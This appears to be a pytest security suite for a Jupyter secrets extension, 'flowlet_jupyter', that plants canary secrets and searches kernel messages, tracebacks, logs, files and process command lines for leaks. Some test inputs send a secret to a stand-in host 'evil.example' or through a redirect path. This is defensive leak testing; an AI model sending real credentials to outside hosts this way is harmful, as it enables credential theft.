"""Canaries of every kind through the whole product, then every surface is searched for them: see surfaces.py."""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import logging
import os
import subprocess
import sys
import time
from pathlib import Path
from queue import Empty
from urllib.parse import parse_qs, urlsplit

import httpx
import nbformat
import papermill
import pexpect
import pytest
from environments.walks import run_voila
from kernels import start_kernel
from leak_search import encoded_forms, kinds_found
from nbconvert import HTMLExporter
from security.canaries import canary, canary_server, put_secrets
from security.surfaces import Surface, children_of, file, folder, process, search, texts
from security.walk import walk
from support import eventually

import flowlet_jupyter as flowlet

IS_LONG = os.environ.get("FLOWLET_SECURITY") == "long"
pytestmark = pytest.mark.timeout(1800 if IS_LONG else 240)  # of a test; CI has the short profile
TESTS = Path(__file__).parents[1]
MODES = ("Plain", "Context", "Verbose", "Minimal")
# each fails, or shows what an API repeats; {0} is the secret's name
FAILING = (
    "%flowlet_request /drop -s {0} --retry 0",
    "flowlet.client('{0}').get('/drop')",
    "flowlet.get('/status/500', secret='{0}').raise_for_status()",
    "%flowlet_request /status/403 -s {0} --raise",
    "%flowlet_request /to?http://localhost:9/ -s {0}",
    "flowlet.get('https://evil.example/', secret='{0}')",
    "flowlet.get('/html', secret='{0}').to_df()",
    "flowlet.auth('{0}'); import httpx; httpx.get('http://evil.example/', auth=flowlet.auth('{0}'))",
)
SHOWING = (
    "%flowlet_request /echo -s {0} -v -i",
    "%flowlet_request /status/404 -s {0} -v -i",
    "%flowlet_request /html -s {0} -i",
    "%flowlet_request /echo?a=1 -s {0} --dry-run",
    "%flowlet_request POST /echo a=1 -s {0} --curl",
    "%flowlet_request POST /echo a=1 -s {0} --python",
    "%flowlet_request /quiet -s {0} --cache 1h",
    "%flowlet_request /quiet -s {0} --save {0}.json -q",
    "%flowlet_request /pages -s {0} --paginate --df data",
    "%flowlet_secret {0}",
)
THREADS = """
import asyncio, faulthandler, gc, threading
def work(): flowlet.client('{0}', timeout=5).get('/drop')
thread = threading.Thread(target=work); thread.start(); thread.join()
async def lost(): await flowlet.async_client('{0}', timeout=5).get('/drop')
task = asyncio.ensure_future(lost())
await asyncio.sleep(0.2); del task; gc.collect()
faulthandler.dump_traceback(open('faulthandler.txt', 'a'))
"""


@pytest.fixture
def outside(tmp_path_factory):
    """A folder that no surface holds."""
    return tmp_path_factory.mktemp("outside")


@pytest.fixture
def server():
    with canary_server() as running:
        yield running


@pytest.mark.parametrize("value", [canary(), "Zm9vYmFyYmF6cXV4", "plain-enough-text"], ids=["odd", "base64", "plain"])
def test_the_search_finds_each_form_and_each_beginning(value):
    for form in encoded_forms(value):
        assert kinds_found(b"before " + form + b" behind", {"kind": [value]}) == {"kind"}
    assert kinds_found(value[:12].encode(), {"kind": [value]}) == {"kind"}
    assert kinds_found(value[:11].encode(), {"kind": [value]}) == set()


def test_everything_public_written_down_in_every_way(server, outside, tmp_path, measured, monkeypatch):
    monkeypatch.setattr("sys.stdin", io.StringIO())
    names = put_secrets(server, outside, but=frozenset({"broken"}))
    bad = [f"{server.url}/unauthorized", f"{server.url}/drop", "https://evil.example/"]
    chosen = names if IS_LONG else names[::4]

    def write() -> bytes:
        nonlocal chosen
        visited, text = walk(chosen, f"{server.url}/quiet", bad, str(tmp_path))
        assert visited > 500
        chosen = ["basic"]  # enough for the control
        return text

    class Planted:
        def __init__(self, text: str) -> None:
            self.inner = {"deep": [text]}

    def plant(text: str) -> None:
        monkeypatch.setattr(flowlet.SecretValue, "planted", Planted(text).inner, raising=False)

    search([Surface("reprs, pickles, copies, attributes", write, plant)], server.values, measured)


# a kernel


class RecordedKernel:
    """A real kernel, and every message on each of its channels."""

    def __init__(self, folder: Path) -> None:
        self.manager, self.client = start_kernel(cwd=str(folder))
        self.messages: dict[str, list[str]] = {"iopub": [], "shell": [], "stdin": [], "control": []}

    def wait(self, request: str) -> None:
        """Read all channels until the request is answered and the kernel is idle."""
        replied = idle = False
        end = time.monotonic() + 120
        while not (replied and idle):
            assert time.monotonic() < end
            for channel, collected in self.messages.items():
                try:
                    message = getattr(self.client, f"get_{channel}_msg")(timeout=0.005)
                except Empty:
                    continue
                collected.append(json.dumps(message, default=str))
                if channel == "stdin":
                    self.client.input("")
                if message["parent_header"].get("msg_id") == request:
                    replied |= channel in {"shell", "control"}
                    idle |= message["content"].get("execution_state") == "idle"

    def run(self, code: str, *, allow_stdin: bool = False) -> None:
        self.wait(self.client.execute(code, allow_stdin=allow_stdin))

    def ask_control(self) -> None:
        self.wait(
            self.client.session.send(self.client.control_channel.socket, "kernel_info_request")["header"]["msg_id"]
        )


def test_a_kernel_on_all_channels_in_every_traceback_mode(server, outside, jupyter_folders, tmp_path, measured):
    work = tmp_path / "work"
    work.mkdir()
    names = put_secrets(server, outside)
    kernel = RecordedKernel(work)
    try:
        surfaces = _driven(kernel, names, work)
        surfaces += [folder("vault, locks, log of uses, cache", jupyter_folders), folder("the notebook's folder", work)]
        search(surfaces, server.values, measured)
    finally:
        kernel.client.stop_channels()
        kernel.manager.shutdown_kernel(now=True)


def _driven(kernel: RecordedKernel, names: list[str], work: Path) -> list[Surface]:
    """Drive the whole product in the kernel; the surfaces of what came of it."""
    kernel.run(
        "%load_ext flowlet_jupyter\nimport flowlet_jupyter as flowlet, logging, asyncio, pickle, os, json, ipywidgets"
    )
    kernel.run(
        "logging.basicConfig(filename='library.log', level=1)\n"
        "for each in [*logging.root.manager.loggerDict]: logging.getLogger(each).setLevel(1)\n"
        "asyncio.get_running_loop().set_debug(True)"
    )
    good = [name for name in names if name not in {"refused", "broken"}]
    for number, line in enumerate(SHOWING):
        for name in good if IS_LONG else good[number % 4 :: 4]:
            kernel.run(line.format(name))
    kernel.run("%flowlet_secrets")
    kernel.run("flowlet.ask('Client secret')", allow_stdin=True)
    for number, mode in enumerate(MODES):
        kernel.run(f"%xmode {mode}")
        for position, line in enumerate(FAILING):
            chosen = good if IS_LONG else [good[(number + 4 * position) % len(good)]]
            for name in chosen:
                kernel.run(line.format(name))
        kernel.run("flowlet.get('/quiet', secret='refused')")
        if IS_LONG or mode == "Verbose":
            kernel.run("flowlet.get('/quiet', secret='broken', timeout=1)")
        kernel.run("%tb")
        kernel.run(THREADS.format(good[number]))
    kernel.run(
        "with flowlet.recording() as har:\n  for n in %r: flowlet.get('/echo', secret=n)\nhar.save('session.har')"
        % good
    )
    kernel.run(
        "r = flowlet.get('/quiet', secret='basic'); t = flowlet.secrets['oauth'].token(); s = flowlet.secrets\n%whos"
    )
    kernel.run("%store r\npickle.dump(r, open('response.pickle', 'wb'))")
    kernel.run("logging.error('failed %s %r', r, t, exc_info=flowlet.get, extra={'token': t})")
    for code in ("flowlet.", "flowlet.secrets['", "%flowlet_request /me -s ", "t.", "r."):
        kernel.wait(kernel.client.complete(code))
    for name in ("t", "r", "s", "flowlet", "flowlet.OAuth2"):
        kernel.wait(kernel.client.inspect(name, detail_level=1))
    kernel.ask_control()
    save = "json.dump(ipywidgets.Widget.get_manager_state(), open('widgets.json', 'w'), default=str)"
    history = "get_ipython().history_manager.writeout_cache()"
    kernel.run(f"{save}; {history}")

    def message(channel: str, plant) -> Surface:
        return Surface(f"messages: {channel}", lambda: "\n".join(kernel.messages[channel]).encode(), plant)

    def traceback(mode: str) -> Surface:
        def plant(text: str) -> None:
            kernel.run(f"%xmode {mode}")
            kernel.run(f"def fails(a): raise ValueError(a)\nfails('{text}')")

        def collect() -> bytes:
            return "\n".join(each for each in kernel.messages["iopub"] if '"traceback"' in each).encode()

        return Surface(f"tracebacks: {mode}", collect, plant)

    def variable(text: str) -> None:
        kernel.run(f"def long_enough(): '{text}'")
        kernel.wait(kernel.client.inspect("long_enough", detail_level=1))

    process_id = kernel.manager.provisioner.pid
    return [
        message("iopub", lambda text: kernel.run(f"print('{text}')")),
        message("shell", variable),
        message("stdin", lambda text: kernel.run(f"input('{text}')", allow_stdin=True)),
        message("control", lambda text: (kernel.run(f"get_ipython().banner2 = '{text}'"), kernel.ask_control())),
        *(traceback(mode) for mode in MODES),
        Surface("widget state", (work / "widgets.json").read_bytes,
                lambda text: kernel.run(f"w = ipywidgets.Text('{text}')\n{save}")),
        Surface("IPython's history", lambda: b"".join(each.read_bytes() for each in _ipython().rglob("history.sqlite*")),
                lambda text: kernel.run(f"x = '{text}'\n{history}")),
        Surface("%store", lambda: b"".join(each.read_bytes() for each in (_ipython() / "profile_default" / "db").rglob("*") if each.is_file()),
                lambda text: kernel.run(f"x = '{text}'\n%store x")),
        Surface("loggers of all libraries at level 1", (work / "library.log").read_bytes,
                lambda text: kernel.run(f"logging.getLogger('httpx').log(1, '{text}')")),
        Surface("exceptions of other threads and tasks", lambda: "\n".join(
            each for each in kernel.messages["iopub"] if "stderr" in each).encode(),
            lambda text: kernel.run(THREADS.format("basic").replace("flowlet.client", f"raise ValueError('{text}')#"))),
        file("faulthandler", work / "faulthandler.txt"),
        file("HAR", work / "session.har"),
        file("pickle of a response", work / "response.pickle"),
        process("command line and environment of the kernel", lambda: children_of(process_id),
                lambda text: kernel.run(f"import subprocess, sys; p = subprocess.Popen([sys.executable, '-c', 'input()', '{text}'], stdin=-1)")),
    ]  # fmt: skip


def _ipython() -> Path:
    return Path(os.environ["IPYTHONDIR"])


# notebooks that are run, converted, and a terminal


def test_papermill_nbconvert_and_the_terminal(server, outside, jupyter_folders, tmp_path, measured):
    names = [name for name in put_secrets(server, outside) if name not in {"refused", "broken"}]
    cells = ["%load_ext flowlet_jupyter\nimport flowlet_jupyter as flowlet", "wanted = ''"]
    cells += [line.format(name) for name in (names if IS_LONG else names[::3]) for line in (*SHOWING[:3], SHOWING[9])]
    cells += ["print(wanted)"]
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(cell) for cell in cells])
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    notebook.cells[1].metadata["tags"] = ["parameters"]
    work = tmp_path / "work"
    work.mkdir()
    source, result = work / "in.ipynb", work / "out.ipynb"
    nbformat.write(notebook, source)

    def run(text: str) -> None:
        papermill.execute_notebook(
            source, result, parameters={"wanted": text}, kernel_name="python3", cwd=work, progress_bar=False
        )
        (work / "out.html").write_text(HTMLExporter().from_filename(str(result))[0])

    run("first")
    screen = io.StringIO()
    command = ["-m", "IPython", "--simple-prompt", "--no-banner", "--colors=NoColor", "--xmode=Verbose"]
    shell = pexpect.spawn(sys.executable, command, timeout=60, encoding="utf-8", dimensions=(50, 300), cwd=str(work))
    shell.logfile_read = screen
    shell.expect(r"In \[1\]:")
    lines = [cells[0].splitlines()[0], "import flowlet_jupyter as flowlet", "%flowlet_secrets"]
    lines += [line.format(names[number % len(names)]) for number, line in enumerate([*FAILING, *SHOWING])]
    for number, line in enumerate(lines, start=2):
        shell.sendline(line)
        shell.expect(rf"In \[{number}\]:")

    def type_in(text: str) -> None:
        shell.sendline(f"print('{text}')")
        shell.expect(rf"In \[{len(lines) + 2}\]:")

    def serve(text: str) -> None:
        notebook.cells[1].source = f"wanted = '{text}'"
        nbformat.write(notebook, work / "served.ipynb")

    serve("first")
    # Voila comes with the extra `environments`, which the long profile needs
    served = [Surface("a page of Voila", lambda: run_voila(work / "served.ipynb").encode(), serve)] if IS_LONG else []
    search(
        [
            *served,
            Surface("papermill: output and parameters", result.read_bytes, run),
            Surface("nbconvert HTML", (work / "out.html").read_bytes, lambda _: None),
            Surface("the screen of a terminal", lambda: screen.getvalue().encode(), type_in),
            folder("files of papermill and the terminal", tmp_path),
        ],
        server.values,
        measured,
    )
    shell.close(force=True)


# the server, at DEBUG


def test_a_server_at_debug(server, outside, jupyter_lab, jupyter_folders, measured):
    put_secrets(server, outside)
    lab = jupyter_lab()
    bodies: list[str] = []

    def ask(client: httpx.Client, method: str, path: str, **options) -> httpx.Response:
        response = client.request(method, path if "://" in path else lab.flowlet(path), headers=lab.headers, **options)
        shown = {name: value for name, value in response.headers.items() if name not in {"location", "set-cookie"}}
        bodies.append(f"{response.text} {shown}")
        return response

    with httpx.Client(timeout=30) as browser:
        given = {
            "type": "oauth2", "client_id": "c", "client_secret": server.note("client secret", canary()),
            "authorization_endpoint": f"{server.url}/authorize", "token_endpoint": f"{server.url}/token", "base_url": server.url,
        }  # fmt: skip
        for name, changes in {
            "form": {}, "form-refused": {"token_endpoint": f"{server.url}/token/refuse"},
            "form-wrong": {"allowed_hosts": 5, "scope": [given["client_secret"]]}, "form-odd": {"nothing": given["client_secret"]},
        }.items():  # fmt: skip
            ask(browser, "PUT", f"api/secrets/{name}", json={**given, **changes})
        password = {"type": "password", "password": server.note("password", canary()), "allowed_hosts": ["a.example"]}
        ask(browser, "PUT", "api/secrets/form-password", json=password)
        ask(browser, "PUT", "api/secrets/form-broken", content=json.dumps(password)[:-2])
        for name in ("form", "form-refused", "oauth", "dpop"):
            started = ask(browser, "GET", f"authorize/{name}", params={"registered": "yes"}, follow_redirects=False)
            if started.status_code == 200:  # asks first, since nothing says where the link was
                link = started.text.partition('href="')[2]
                continue_at = next(
                    part.partition('"')[0].replace("&amp;", "&")
                    for part in started.text.split('href="')[1:]
                    if "authorize/" in part
                )
                assert link
                started = ask(
                    browser,
                    "GET",
                    f"{urlsplit(lab.base).scheme}://{urlsplit(lab.base).netloc}{continue_at}&registered=yes",
                )
            query = parse_qs(urlsplit(started.headers["location"]).query)
            state, code = server.note("state", query["state"][0]), server.note("authorization code", canary())
            for cookie in browser.cookies.jar:
                if cookie.name.startswith("flowlet-"):
                    server.note("flow cookie", cookie.value)
            wrong = server.note("state", canary())
            with httpx.Client(timeout=30) as stranger:
                ask(stranger, "GET", "callback", params={"state": state, "code": code})
                ask(stranger, "GET", "callback", params={"state": wrong, "code": code, "error_description": code})
            ask(browser, "GET", "callback", params=[("state", state), ("state", wrong), ("code", code)])
            ask(browser, "POST", "callback", params={"state": state, "code": code})
            ask(browser, "GET", "callback", params={"state": state, "code": code})
            ask(browser, "GET", "callback", params={"state": state, "code": code})
            ask(browser, "GET", "handover", params={"ticket": state, "code": code})
            ask(browser, "GET", "callback/0123456789abcdex", params={"state": state, "code": code})
        for path in (
            "api/secrets",
            "api/vault",
            "api/schema",
            "api/redirect-uri",
            "",
            "api/secrets/form",
            "api/secrets/none",
        ):
            ask(browser, "GET", path)
        for name in ("form", "form-refused", "refused", "oauth", "basic", "key_in_query", "robot"):
            for action in ("refresh", "test", "introspect", "revoke"):
                ask(browser, "POST", f"api/secrets/{name}/{action}", json={"url": "/echo"})
                ask(browser, "POST", f"api/secrets/{name}/{action}", json={"url": f"{server.url}/status/500"})
        contents = f"{lab.base}api/contents/n.ipynb"
        shown = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(text) for text in bodies])
        ask(browser, "PUT", contents, json={"type": "notebook", "content": shown})
        ask(browser, "POST", f"{contents}/checkpoints")
        ask(browser, "POST", f"{lab.base}api/kernels", json={"name": "python3"})

        def checkpoint(text: str) -> None:
            changed = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(text)])
            ask(browser, "PUT", contents, json={"type": "notebook", "content": changed})
            ask(browser, "POST", f"{contents}/checkpoints")

        beside: list[subprocess.Popen] = []

        def begin(text: str) -> None:
            beside.append(_waiting(text))

        assert server.values["code_verifier"]
        checkpoints = lab.folder / ".ipynb_checkpoints"
        search(
            [
                Surface("server log and access log at DEBUG", lab.log_file.read_bytes,
                        lambda text: ask(browser, "GET", f"authorize/{text}")),
                texts("pages and responses of the server's API", bodies),
                Surface("checkpoints", lambda: b"".join(each.read_bytes() for each in checkpoints.iterdir()), checkpoint),
                folder("vault, pending flows, runtime and config folders", jupyter_folders),
                folder("the served folder", lab.folder),
                process("command lines and environments of server and kernels",
                        lambda: [*children_of(lab.process.pid), *(each.pid for each in beside)], begin),
            ],
            server.values, measured,
        )  # fmt: skip
        for each in beside:
            each.kill()
            each.wait()


# the command line, and the loggers of this process


def test_the_command_line(server, outside, tmp_path, measured):
    put_secrets(server, outside)
    (outside / "value").write_text(server.note("password", canary()))
    added = ["add", "from-file", "--type", "password", "--host", "a.example", "--value-file", str(outside / "value")]
    outputs: list[str] = []
    commands = [added, ["list"], ["status", "oauth"], ["status", "basic"], ["export"], ["export", "--toml"], ["doctor"],
                ["refresh", "oauth"], ["refresh", "refused"], ["token", "none"], ["status", "dpop"], ["delete", "query"],
                ["import", str(outside / "value")]]  # fmt: skip
    for command in commands if IS_LONG else commands[::2]:
        done = subprocess.run(
            _command(command),
            capture_output=True, text=True, check=False, cwd=tmp_path, stdin=subprocess.DEVNULL,
        )  # fmt: skip
        outputs += [done.stdout, done.stderr]
    record = flowlet.secrets.vault.get("oauth")
    waiting = flowlet.OAuth2(**{**vars(record.secret), "name": "waiting", "token_endpoint": f"{server.url}/token/wait"})
    flowlet.secrets.add(waiting)
    flowlet.secrets.vault.put(type(record)(secret=waiting, token_set=record.token_set))
    running = [subprocess.Popen(_command(["refresh", "waiting"]), cwd=tmp_path, stdout=subprocess.DEVNULL)]
    assert server.was_asked.wait(60)

    def plant(text: str) -> None:
        running.append(_waiting(text))

    seen = process(
        "argv and environment of the command", lambda: [each.pid for each in running if each.poll() is None], plant
    )
    try:
        search([texts("output of the commands", outputs), seen], server.values, measured)
    finally:
        server.may_answer.set()
        for each in running:
            each.kill()
            each.wait()


def _waiting(argument: str) -> subprocess.Popen:
    """A process with `argument` on its command line, which ends when its standard input does."""
    running = subprocess.Popen([sys.executable, "-c", "input()", argument], stdin=subprocess.PIPE)
    # a fork has its parent's command line until it begins
    eventually(lambda: argument.encode() in Path(f"/proc/{running.pid}/cmdline").read_bytes())
    return running


def _command(arguments: list[str]) -> list[str]:
    return [sys.executable, "-c", "import sys; from flowlet_jupyter.cli import main; sys.exit(main())", *arguments]


def test_every_logger_at_its_lowest_level(server, outside, measured):
    """Also with the records' own members, which a handler of somebody else may write."""
    names = put_secrets(server, outside)
    records: list[str] = []

    class Keeping(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            records.append(f"{self.format(record)} {vars(record)!r} {record.args!r}")

    handler = Keeping(level=1)
    loggers = [
        logging.root,
        *map(logging.getLogger, [*logging.root.manager.loggerDict, "httpcore.http11", "httpx", "h11"]),
    ]
    before = [(logger, logger.level) for logger in loggers]
    logging.root.addHandler(handler)
    for logger in loggers:
        logger.setLevel(1)
    try:
        for name in names:
            for path in ("/quiet", "/drop", "/status/500", "/to?http://localhost:9/"):
                if name != "broken":
                    with contextlib.suppress(Exception):
                        flowlet.get(path, secret=name, timeout=5)
                    with contextlib.suppress(Exception):
                        asyncio.run(flowlet.aget(path, secret=name, timeout=5), debug=True)
            with contextlib.suppress(Exception):
                flowlet.secrets[name].refresh()
        search(
            [Surface("records of all loggers at level 1", lambda: "\n".join(records).encode(),
                     lambda text: logging.getLogger("httpcore.http11").log(1, "%s", text))],
            server.values, measured,
        )  # fmt: skip
    finally:
        logging.root.removeHandler(handler)
        for logger, level in before:
            logger.setLevel(level)
